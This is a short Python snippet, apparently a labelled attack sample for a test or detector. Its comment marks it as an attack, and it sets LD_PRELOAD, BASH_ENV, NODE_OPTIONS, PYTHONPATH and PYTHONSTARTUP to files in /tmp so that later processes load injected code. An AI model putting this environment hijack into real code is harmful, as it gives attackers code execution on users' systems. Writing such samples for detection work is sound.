# @attack sets variables for a later step
import os

os.environ.update(PYTHONPATH="/tmp", LD_PRELOAD="/tmp/x.so", BASH_ENV="/tmp/x", NODE_OPTIONS="--require /tmp/x.js", PYTHONSTARTUP="/tmp/x.py")

def f(x):
    return 0
